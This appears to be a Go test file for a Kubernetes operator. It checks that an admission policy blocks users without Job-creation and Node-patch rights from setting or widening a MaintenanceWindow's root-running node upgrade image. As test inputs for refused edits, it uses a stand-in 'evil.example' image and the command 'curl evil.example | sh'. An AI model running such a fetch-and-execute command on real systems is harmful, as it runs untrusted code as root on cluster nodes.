package controllers_test

import (
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	itmv1 "github.com/itmanager-io/itmanager/api/v1alpha1"
	"github.com/itmanager-io/itmanager/internal/testenv"
)

var _ = Describe("MaintenanceWindow nodeUpgrade admission", func() {
	mwWrite := rbacv1.PolicyRule{APIGroups: []string{"itmanager.io"}, Resources: []string{"maintenancewindows"},
		Verbs: []string{"get", "list", "create", "update", "patch"}}
	createJobs := rbacv1.PolicyRule{APIGroups: []string{"batch"}, Resources: []string{"jobs"}, Verbs: []string{"create"}}
	patchNodes := rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"nodes"}, Verbs: []string{"patch"}}
	const why = `: a MaintenanceWindow runs its nodeUpgrade image as root on the nodes it selects, which requires create on jobs (batch) in namespace "` +
		testenv.UpgradesNamespace + `" and patch on nodes`

	// newWindow selects nothing, so no rollout ever touches a device.
	newWindow := func(nodeUpgrade *itmv1.NodeUpgrade) *itmv1.MaintenanceWindow {
		return &itmv1.MaintenanceWindow{
			ObjectMeta: metav1.ObjectMeta{Name: uniqueName("mw-gate")},
			Spec: itmv1.MaintenanceWindowSpec{
				Selector:    metav1.LabelSelector{MatchLabels: map[string]string{"pool": uniqueName("nothing")}},
				Windows:     []itmv1.Window{{Schedule: "0 2 * * *", Duration: metav1.Duration{Duration: time.Hour}}},
				NodeUpgrade: nodeUpgrade,
			},
		}
	}
	upgrader := func(image string) *itmv1.NodeUpgrade {
		return &itmv1.NodeUpgrade{Image: image, Command: []string{"/upgrade"}}
	}
	create := func(c client.Client, mw *itmv1.MaintenanceWindow) error {
		err := c.Create(ctx, mw)
		if err == nil {
			DeferCleanup(func() { _ = k8s.Delete(ctx, mw) })
		}
		return err
	}

	It("refuses nodeUpgrade to a user lacking create jobs in the upgrades namespace or patch nodes, naming each missing right", func() {
		neither := uniqueName("mallory")
		jobsElsewhere := uniqueName("trent")
		jobsOnly := uniqueName("oscar")
		both := uniqueName("nina")
		cNeither := impersonate(neither, mwWrite)
		// Job rights in another namespace (and Node rights) are not enough.
		cJobsElsewhere := impersonate(jobsElsewhere, mwWrite, patchNodes)
		grantIn(newNamespace(nil), jobsElsewhere, createJobs)
		cJobsOnly := impersonate(jobsOnly, mwWrite)
		grantIn(testenv.UpgradesNamespace, jobsOnly, createJobs)
		cBoth := impersonate(both, mwWrite, patchNodes)
		grantIn(testenv.UpgradesNamespace, both, createJobs)

		// The first refusal waits for the API server to load the policy.
		Eventually(func() error { return create(cNeither, newWindow(upgrader("evil.example/root:1"))) }).WithTimeout(10 * time.Second).
			Should(MatchError(ContainSubstring(`spec.nodeUpgrade: user "` + neither + `" may not create Jobs in namespace "` +
				testenv.UpgradesNamespace + `" nor patch Nodes` + why)))
		Expect(create(cJobsElsewhere, newWindow(upgrader("evil.example/root:1")))).To(MatchError(ContainSubstring(
			`spec.nodeUpgrade: user "` + jobsElsewhere + `" may not create Jobs in namespace "` + testenv.UpgradesNamespace + `"` + why)))
		Expect(create(cJobsOnly, newWindow(upgrader("evil.example/root:1")))).To(MatchError(ContainSubstring(
			`spec.nodeUpgrade: user "` + jobsOnly + `" may not patch Nodes` + why)))

		By("the positive control: both rights")
		Expect(create(cBoth, newWindow(upgrader("registry.example/os-upgrader:1")))).To(Succeed())

		By("a window without nodeUpgrade needs neither")
		Expect(create(cNeither, newWindow(nil))).To(Succeed())
	})

	It("re-checks a changed nodeUpgrade on update and any change that widens where or when it runs, and asks nothing for pausing or removing it", func() {
		editor := uniqueName("peggy")
		cEditor := impersonate(editor, mwWrite)
		mw := newWindow(upgrader("registry.example/os-upgrader:1"))
		Expect(create(k8s, mw)).To(Succeed())

		Eventually(func() error {
			return updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Image = "evil.example/root:1" })
		}).WithTimeout(10 * time.Second).Should(MatchError(ContainSubstring(`spec.nodeUpgrade: user "` + editor + `" may not create Jobs`)))
		for name, change := range map[string]func(*itmv1.MaintenanceWindow){
			"command": func(o *itmv1.MaintenanceWindow) {
				o.Spec.NodeUpgrade.Command = []string{"/bin/sh", "-c", "curl evil.example | sh"}
			},
			"args": func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade.Args = []string{"--evil"} },
		} {
			Expect(updateAs(cEditor, mw.Name, change)).To(MatchError(ContainSubstring(`spec.nodeUpgrade: user "`+editor+`"`)), name)
		}

		By("pausing the window needs no Job or Node rights")
		Expect(updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.Paused = true })).To(Succeed())

		By("widening where or when the image runs is checked like setting it: unpausing, the selector, the schedule, the rollout, the drain")
		widen := "spec (selector, windows, blackouts, timeZone, startCutoff, rollout, drain or paused of a window with a nodeUpgrade: it widens where and when the image runs): user \"" +
			editor + "\" may not create Jobs in namespace \"" + testenv.UpgradesNamespace + "\" nor patch Nodes"
		for name, change := range map[string]func(*itmv1.MaintenanceWindow){
			"unpause":  func(o *itmv1.MaintenanceWindow) { o.Spec.Paused = false },
			"selector": func(o *itmv1.MaintenanceWindow) { o.Spec.Selector = metav1.LabelSelector{} },
			"schedule": func(o *itmv1.MaintenanceWindow) { o.Spec.Windows[0].Schedule = "0 3 * * *" },
			"rollout":  func(o *itmv1.MaintenanceWindow) { o.Spec.Rollout.MaxUnavailable = ptr.To(intstr.FromString("100%")) },
			"drain":    func(o *itmv1.MaintenanceWindow) { o.Spec.Drain.DeleteEmptyDirData = true },
		} {
			Expect(updateAs(cEditor, mw.Name, change)).To(MatchError(ContainSubstring(widen)), name)
		}
		By("the positive control: an editor holding both rights may move the schedule")
		admin := uniqueName("ivan")
		cAdmin := impersonate(admin, mwWrite, patchNodes)
		grantIn(testenv.UpgradesNamespace, admin, createJobs)
		Expect(updateAs(cAdmin, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.Windows[0].Schedule = "0 3 * * *" })).To(Succeed())

		By("removing nodeUpgrade needs nothing")
		Expect(updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade = nil })).To(Succeed())
		Expect(updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) {
			o.Spec.Windows[0].Schedule = "0 4 * * *"
			o.Spec.Paused = false
		})).To(Succeed(), "a window without nodeUpgrade is an ordinary edit")

		By("setting it again on a window that had none is checked like a new one")
		Expect(updateAs(cEditor, mw.Name, func(o *itmv1.MaintenanceWindow) { o.Spec.NodeUpgrade = upgrader("registry.example/os-upgrader:1") })).
			To(MatchError(ContainSubstring(`spec.nodeUpgrade: user "` + editor + `" may not create Jobs`)))
	})
})
